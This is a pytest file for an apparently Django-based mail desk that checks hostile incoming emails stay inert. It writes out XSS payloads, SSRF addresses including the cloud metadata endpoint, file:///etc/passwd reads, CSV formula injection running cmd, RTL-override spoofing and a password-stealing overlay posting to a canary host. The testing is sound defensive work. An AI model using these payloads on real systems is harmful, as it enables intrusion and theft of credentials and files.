"""Hostile mails HM01 to HM12: markup and addresses that want to run, fetch, lead away or deceive are inert text at the desk."""

import csv
import io

import pytest
from django.core.management import call_command

from tests.hostile.judging import ASKS, CANARY, html, judge, raw, with_file

pytestmark = pytest.mark.django_db

SCRIPT = f"<script>alert('{CANARY}')</script>"
AWAY = f"http://{CANARY}.invalid/"

MAILS = {
    "HM01 script in subject, name, body and Organization": raw(
        f"Subject: {SCRIPT}", f"Organization: {SCRIPT}", body=f"{ASKS} {SCRIPT}", sender=f'From: "{SCRIPT}" <a@example.com>'
    ),
    "HM01 script as name of a file": with_file(b"%PDF-", f'Content-Type: a/b; name="{SCRIPT.replace("/", "")}"'),
    "HM02 handlers on tags": html(
        f"<img src=x onerror=alert('{CANARY}')><svg><animate onbegin=alert(1)></svg><details open ontoggle=alert(1)>"
        "<body onload=alert(1)><input autofocus onfocus=alert(1)><marquee onstart=alert(1)>"
    ),
    "HM03 schemes that run": html(
        f'<a href="java\tscript:alert(\'{CANARY}\')">a</a><a href="data:text/html,<script>1</script>">b</a>'
        '<a href="vbscript:x">c</a><a href="\x01javascript:alert(1)">d</a><a href="&#106;avascript:alert(1)">e</a>'
    ),
    "HM03 schemes in plain text and Markdown": raw(
        body=f"{ASKS} javascript:alert('{CANARY}') [click](javascript:alert(1)) <data:text/html,x> http://{CANARY}.invalid"
    ),
    "HM04 mutation": html(
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><xmp><script>alert(1)</script></xmp>"
    ),
    "HM04 nested and unfinished": html(f"<scr<script>ipt>alert('{CANARY}')</scr</script>ipt><plaintext><script>alert(1)"),
    "HM05 utf-7": html("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", charset="utf-7"),
    "HM05 utf-7 undeclared": html("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", charset=""),
    "HM05 utf-16 without a mark": html("<script>alert(1)</script>".encode("utf-16-le"), charset="utf-16"),
    "HM05 iso-2022-jp escapes": html(b"\x1b$B\x1b(B<script>alert(1)</script>\x1b$B%\x1b(J", charset="iso-2022-jp"),
    "HM05 overlong utf-8": html(b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe"),
    "HM06 what a view could fetch": html(
        f'<img src="{AWAY}p.gif" srcset="{AWAY}q.gif 2x"><style>@import "{AWAY}";p{{background:url({AWAY})}}</style>'
        f'<link rel=stylesheet href="{AWAY}"><video poster="{AWAY}" src="{AWAY}"></video><table background="{AWAY}"></table>'
        f'<svg><use href="{AWAY}#x"/><image xlink:href="{AWAY}"/></svg><div style="background:url({AWAY})">x</div>'
        f'<object data="{AWAY}"></object><embed src="{AWAY}"><base href="{AWAY}"><meta http-equiv=refresh content="0;{AWAY}">'
    ),
    "HM07 addresses within": html(
        '<img src="http://169.254.169.254/latest/meta-data/"><img src="http://[::1]:6379/"><img src="http://0x7f000001/">',
        f"Content-Location: {AWAY}",
    ),
    "HM07 external body": raw(
        f'Content-Type: message/external-body; access-type=url; URL="{AWAY}"', body="Content-Type: text/plain\r\n\r\n"
    ),
    "HM08 wishes for a receipt": raw(
        f"List-Unsubscribe: <{AWAY}>",
        f"Disposition-Notification-To: {CANARY}@example.net",
        f"X-Confirm-Reading-To: {CANARY}@example.net",
        f"Return-Receipt-To: {CANARY}@example.net",
    ),
    "HM09 files of ours": html(
        '<img src="file:///etc/hostname"><iframe src="php://filter/resource=/etc/passwd"></iframe>'
        "<style>@font-face{font-family:x;src:url(file:///etc/passwd)}</style>"
    ),
    "HM10 formulas": raw(
        f'Subject: =HYPERLINK("http://{CANARY}.invalid")',
        body=f"{ASKS}\r\n@SUM(1)\r\n+cmd|' /C calc'!A0\r\n\t=1+1\r\n＝1+1",
        sender='From: "=cmd|x" <a@example.com>',
    ),
    "HM11 hidden and turned characters": raw(
        "Subject: =?utf-8?b?4oCuZ25wLmV4ZSDigItwYXlwYWw=?=", body=f"{ASKS} \u202egnp.exe \u200b p\u0430ypal",
        sender="From: =?utf-8?b?4oCuYWRtaW4=?= <a@example.com>",
    ),
    "HM12 a page over our page": html(
        f'<div style="position:fixed;top:0;left:0;width:100%;height:100%">Log in<form action="{AWAY}" method=post>'
        f'<input name=password><button formaction="{AWAY}">Log in</button></form></div>'
    ),
    "HM12 five megabytes of styles": html("<style>" + "p{color:red}" * 430_000 + "</style><p>x</p>"),
}  # fmt: skip


@pytest.mark.parametrize("name", MAILS)
def test_hostile_mail_does_nothing(name, desk_browser):
    arrival = judge(MAILS[name], desk_browser)
    assert arrival.state in ("opened", "quarantined")


@pytest.mark.parametrize(
    "name", [name for name in MAILS if name[:4] in ("HM01", "HM02", "HM03", "HM04", "HM06", "HM09")]
)
def test_a_request_among_markup_is_a_case_all_the_same(name, desk_browser):
    assert judge(MAILS[name], desk_browser).state == "opened"


def test_hm10_a_name_that_is_a_formula_is_text_in_every_export(desk_browser):
    judge(MAILS["HM10 formulas"], desk_browser)
    listed = io.StringIO()
    call_command("report", "--list", stdout=listed)
    for name in listed.getvalue().split():
        out = io.StringIO()
        call_command("report", name, "--format", "csv", stdout=out)
        cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "＝"))]


def test_hm11_turning_marks_are_taken_out_of_subject_and_name(desk_browser):
    arrival = judge(MAILS["HM11 hidden and turned characters"], desk_browser)
    message = arrival.case.messages.get()
    assert "\u202e" not in message.subject + message.from_name
    assert message.from_name == "admin"
